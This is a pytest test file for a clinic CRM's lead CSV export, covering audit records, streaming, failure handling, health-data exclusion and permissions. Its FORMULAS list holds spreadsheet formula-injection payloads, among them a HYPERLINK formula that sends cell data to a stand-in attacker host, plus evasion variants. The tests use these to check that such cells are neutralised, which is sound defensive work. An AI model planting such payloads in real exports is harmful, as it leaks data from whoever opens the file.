import csv
import time
import tracemalloc
from collections.abc import Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from io import StringIO
from typing import Any

import pytest
from django.contrib.auth.models import Group
from django.db import OperationalError, connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from clinic.models import AuditEvent
from desk import csv_cells, export_list
from enquiries.actions import add_note, log_call, merge_leads, move_lead
from enquiries.models import Lead
from enquiries.signals import leads_exported
from foundation.models import ClinicProfile
from mailings.actions import suppress
from mailings.models import Suppression
from tests.conftest import ADDRESS, AWKWARD_NAME

URL = "/admin/enquiries/lead/export/"
PURPOSE = {"purpose": "Letters of thanks after the congress"}


def make(**fields: Any) -> Lead:
    return Lead.objects.create(**{"next_action": "Call", "next_action_on": "2028-01-01", "phone": "1", **fields})


def taken(client: Client, query: str = "", **fields: str) -> list[dict[str, str]]:
    answer = client.post(f"{URL}{query}", {**PURPOSE, **fields})
    assert answer.status_code == 200
    text = b"".join(answer.streaming_content).decode()  # type: ignore[arg-type]
    assert text.startswith("\ufeff")
    *rows, last = csv.DictReader(StringIO(text[1:]))
    assert last["Number"].startswith(f"End of the list: {len(rows)} lead")
    return rows


def ends() -> list[Any]:
    return list(AuditEvent.objects.filter(kind="export_ended").order_by("pk").values_list("by__name", "data"))


def records() -> list[Any]:
    return list(AuditEvent.objects.filter(kind="list_exported").order_by("pk").values_list("by__name", "data"))


def test_the_list_leaves_as_it_is_filtered_searched_and_ordered(desk: Client) -> None:
    for number in range(3):
        make(name=f"Zoë {number}", country="IE", created_at=datetime(2026, 1, 1 + number, tzinfo=UTC))
    make(name="Somebody else", country="IE")
    make(name="Zoë Closed", stage="new")
    query = "?owner=nobody&q=zoe&stage=open"
    assert f"{URL}{query}" in desk.get(f"/admin/enquiries/lead/{query}").text.replace("&amp;", "&")
    names = [row["Name"] for row in taken(desk, "?q=zoe+ireland&o=-7")]
    assert names == ["Zoë 2", "Zoë 1", "Zoë 0"]
    assert [row["Name"] for row in taken(desk, "?q=zoe+ireland&o=7")] == names[::-1]


def test_nothing_leaves_without_a_purpose(desk: Client) -> None:
    make(name=AWKWARD_NAME)
    page = desk.get(URL)
    assert "What leaves the house" in page.text
    assert "No health text" in page.text
    for purpose in ("", "why not"):
        assert desk.post(URL, {"purpose": purpose}).status_code == 422
    assert records() == []


def test_who_exports_what_and_what_for_is_on_record_without_what_was_searched(desk: Client) -> None:
    make(name=AWKWARD_NAME)
    taken(desk, "?q=zoe&stage=open&owner=Zoe")
    filters = {"q": "typed", "stage": "open", "owner": "typed"}
    expected = {"purpose": PURPOSE["purpose"], "leads": 0, "filters": filters}
    assert records() == [("Sam Staff", expected)]


def test_what_cannot_be_put_on_record_is_not_exported(desk: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(**kwargs: Any) -> None:
        raise OSError("disk full")

    leads_exported.connect(full)
    try:
        with CaptureQueriesContext(connection) as queries, pytest.raises(OSError, match="disk full"):
            desk.post(URL, PURPOSE)
    finally:
        leads_exported.disconnect(full)
    assert records() == []
    assert queries


def test_the_record_is_there_before_the_first_byte_and_a_stopped_download_holds_nothing(
    desk: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_list, "CHUNK", 2)
    for number in range(7):
        make(name=f"Person {number}")
    answer: Any = desk.post(URL, PURPOSE)
    assert len(records()) == 1
    pieces = iter(answer.streaming_content)
    assert b"Number" in next(pieces)
    assert b"Person 6" in next(pieces)
    answer.close()
    with pytest.raises(StopIteration):
        next(pieces)


@pytest.mark.django_db(transaction=True)
def test_the_record_says_how_many_went_out(desk: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_list, "CHUNK", 2)
    for number in range(5):
        make(name=f"Person {number}")
    taken(desk)
    stopped: Any = desk.post(URL, PURPOSE)
    pieces = iter(stopped.streaming_content)
    assert [b"Person" in next(pieces) for _piece in range(3)] == [False, True, True]
    stopped.close()
    whole, part = {"leads": 5, "whole": True}, {"leads": 4, "whole": False}
    assert ends() == [("Sam Staff", whole), ("Sam Staff", part)]


def test_the_record_claims_no_more_than_the_site_knows(desk: Client) -> None:
    make(name=AWKWARD_NAME)
    taken(desk)
    page = desk.get("/admin/clinic/auditevent/").text
    assert "handed an export to the web server" in page
    assert "end of an export" not in page


def cut_off_who_waits(cursor: Any) -> None:
    """As a limit of time would: set for a session, that one would be another's behind pgbouncer."""
    waiting = """SELECT pid FROM pg_locks JOIN pg_stat_activity USING (pid)
        WHERE NOT granted AND datname = current_database() AND relation = 'mailings_suppression'::regclass"""
    for _look in range(200):
        cursor.execute(f"SELECT pg_cancel_backend(pid) FROM ({waiting}) AS them")
        if cursor.fetchall():
            return
        time.sleep(0.05)


@pytest.mark.django_db(transaction=True)
def test_of_a_list_that_the_database_cuts_off_nothing_leaves(desk: Client) -> None:
    make(name=AWKWARD_NAME, email=ADDRESS)
    desk.raise_request_exception = False
    other = connection.copy()
    other.set_autocommit(False)
    other.inc_thread_sharing()
    with other.cursor() as holder, ThreadPoolExecutor(1) as pool:
        # Asked for each piece of the list, and not before.
        holder.execute("LOCK TABLE mailings_suppression")
        cut = pool.submit(cut_off_who_waits, holder)
        answer = desk.post(URL, PURPOSE)
        cut.result()
        other.rollback()
    other.close()
    assert answer.status_code >= 500
    assert "Content-Disposition" not in answer.headers
    assert AWKWARD_NAME not in answer.text
    assert (len(records()), ends()) == (1, [("Sam Staff", {"leads": 0, "whole": False})])


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("all_of_it", [True, False])
def test_the_record_says_how_many_went_out_also_when_postgres_ended_the_connection_meanwhile(
    desk: Client, monkeypatch: pytest.MonkeyPatch, all_of_it: bool
) -> None:
    monkeypatch.setattr(export_list, "CHUNK", 2)
    for number in range(5):
        make(name=f"Person {number}")
    answer: Any = desk.post(URL, PURPOSE)
    pieces = iter(answer.streaming_content)
    assert [b"Person" in next(pieces) for _piece in range(2)] == [False, True]
    end_our_connection()
    if all_of_it:
        assert b"End of the list: 5 leads" in b"".join(pieces)
    answer.close()
    expected = {"leads": 5, "whole": True} if all_of_it else {"leads": 2, "whole": False}
    assert ends() == [("Sam Staff", expected)]


def end_our_connection() -> None:
    """As a restart of Postgres, or a kill -9 of the process that serves us."""
    other = connection.copy()
    with other.cursor() as cursor:
        cursor.execute("SELECT pg_terminate_backend(%s, 5000)", [connection.connection.info.backend_pid])
        assert cursor.fetchone() == (True,)
    other.close()


def test_a_list_says_how_long_it_is_so_that_one_that_ends_early_is_broken(desk: Client) -> None:
    make(name=AWKWARD_NAME)
    answer: Any = desk.post(URL, PURPOSE)
    assert int(answer.headers["Content-Length"]) == len(b"".join(answer.streaming_content))


def test_no_row_is_lost_or_doubled_between_two_chunks(desk: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_list, "CHUNK", 3)
    same = datetime(2026, 1, 1, tzinfo=UTC)
    leads = [make(name=f"Person {number}", created_at=same) for number in range(10)]
    for query in ("", "?due=all", "?o=7"):
        found = [int(row["Number"]) for row in taken(desk, query)]
        assert sorted(found) == [lead.pk for lead in leads]


def held_at_most(pieces: Iterable[Any]) -> int:
    """In bytes, at the worst moment of going through them."""
    tracemalloc.start()
    for _piece in pieces:
        pass
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


def downloaded(desk: Client) -> Iterator[bytes]:
    """From before it is asked for, since it is put together before the first of it leaves."""
    answer: Any = desk.post(URL, PURPOSE)
    yield from answer.streaming_content


@pytest.mark.scale
@pytest.mark.timeout(300)
def test_a_long_list_is_never_held_whole(desk: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_list, "CHUNK", 100)
    person = {"phone": "1", "next_action": "x", "next_action_on": "2028-01-01"}
    Lead.objects.bulk_create(Lead(name=f"Person {number}", **person) for number in range(2000))
    # What a first export reads into memory, it keeps.
    assert b"Person" in b"".join(downloaded(desk))
    assert held_at_most(downloaded(desk)) < held_at_most(Lead.objects.all()) / 2


def test_nothing_about_health_leaves(desk: Client, staff: Any) -> None:
    lead = make(name=AWKWARD_NAME, next_action="Ask about the canary tumour")
    add_note(lead=lead, text="canary note", by=staff)
    move_lead(lead=lead, stage="lost", reason="canary too ill", by=staff)
    (row,) = taken(desk)
    assert "canary" not in str(row)
    assert row["Name"] == AWKWARD_NAME
    assert row["Next action on"] == ""


def test_times_are_those_of_the_clinic_and_a_country_has_name_and_code(desk: Client) -> None:
    ClinicProfile.objects.update(time_zone="America/New_York")
    make(name="A", country="IE", created_at=datetime(2026, 7, 1, 2, tzinfo=UTC), email="a@example.com")
    make(name="B", created_at=datetime(2025, 7, 1, 2, tzinfo=UTC), email="b@example.com")
    suppress(address="b@example.com", reason=Suppression.Reason.COMPLAINT)
    first, second = taken(desk)
    assert (first["Since"], first["Next action on"]) == ("2026-06-30T22:00:00-04:00", "2028-01-01")
    assert (first["Country code"], first["Country"], first["May be mailed"]) == ("IE", "Ireland", "yes")
    assert (second["Country"], second["May be mailed"]) == ("", "no")


def test_the_file_is_named_for_the_day_and_kept_by_nobody(desk: Client) -> None:
    answer = desk.post(URL, PURPOSE)
    assert answer["Content-Disposition"].startswith('attachment; filename="leads-20')
    assert "no-store" in answer["Cache-Control"]
    assert answer["Content-Type"] == "text/csv; charset=utf-8"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    '"=1+1', "'=1+1", "\u200b=1+1", "\ufeff=1+1", "\xa0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1",
    "+49 30 1234",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_a_spreadsheet_would_work_out_begins_with_an_apostrophe(desk: Client, formula: str) -> None:
    make(name=formula, phone="+49 30 901820")
    (row,) = taken(desk)
    assert row["Name"][0] == "'"
    assert row["Telephone"] == "'+49 30 901820"
    assert csv_cells.unshielded(csv_cells.safe_cell(formula.strip())) == formula.strip()


@pytest.mark.parametrize("name", [AWKWARD_NAME, "Anne-Marie", "a@b", "1 = 2", "", "O'Neill", "'s-Hertogenbosch"])
def test_other_words_stay_as_they_are(name: str) -> None:
    assert csv_cells.safe_cell(name) == csv_cells.unshielded(name) == name


def test_a_formula_behind_a_semicolon_or_a_line_break_is_no_cell_of_its_own(desk: Client) -> None:
    make(name="Zoë;=1+1\n=2+2\nEnd")
    (row,) = taken(desk)
    assert row["Name"] == "Zoë;'=1+1\n'=2+2\nEnd"


@pytest.mark.parametrize(
    ("role", "status"), [("manager", 200), ("coordinator", 403), ("auditor", 403), ("editor", 403)]
)
def test_only_managers_may_export(first_content: None, django_user_model: Any, role: str, status: int) -> None:
    user = django_user_model.objects.create_user(f"{role}@clinic.example")
    user.groups.set(Group.objects.filter(name=role))
    client = Client()
    client.force_login(user)
    assert client.get(URL).status_code == client.post(URL, PURPOSE).status_code == status
    if role != "editor":
        assert (URL in client.get("/admin/enquiries/lead/").text) == (status == 200)


def test_a_filter_that_there_is_not_exports_nothing_and_says_so(desk: Client) -> None:
    answer = desk.post(f"{URL}?nonsense=1", PURPOSE)
    assert answer.status_code == 400
    assert "This filter cannot be read" in answer.text
    assert records() == []


def test_the_last_call_is_told_without_the_words_of_the_clinic(desk: Client, staff: Any) -> None:
    ClinicProfile.objects.update(time_zone="UTC")
    called, merged, never = make(name="A"), make(name="B", phone="2"), make(name="C", phone="3")
    today = timezone.now().replace(microsecond=0)
    log_call(lead=called, outcome="no_answer", by=staff, at=today - timedelta(days=3), direction="ours")
    told = {"direction": "theirs", "called": "canary records", "text": "canary"}
    log_call(lead=merged, outcome="spoke", by=staff, at=today - timedelta(days=1), **told)
    merge_leads(lead=merged, into=called, by=staff)
    rows = {row["Name"]: row for row in taken(desk)}
    first = rows["A"]
    assert first["Last call"] == (today - timedelta(days=1)).isoformat()
    assert [first[name] for name in ("Logged by", "Who called", "How the call went")] == [
        "Sam Staff",
        "they called",
        "spoke with them",
    ]
    assert (rows[never.name]["Last call"], rows[never.name]["Who called"]) == ("", "")
    assert "canary" not in str(rows)


@pytest.mark.django_db(transaction=True)
def test_an_end_that_was_written_and_whose_answer_was_lost_is_on_record_once(desk: Client) -> None:
    make(name=AWKWARD_NAME)
    answer: Any = desk.post(URL, PURPOSE)
    lost: list[str] = []

    def loses_the_answer(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
        found = execute(sql, params, many, context)
        if "INSERT" in sql and "auditevent" in sql and not lost:
            lost.append(sql)
            raise OperationalError("server closed the connection unexpectedly")
        return found

    with connection.execute_wrapper(loses_the_answer):
        b"".join(answer.streaming_content)
        answer.close()
    assert lost
    assert ends() == [("Sam Staff", {"leads": 1, "whole": True})]
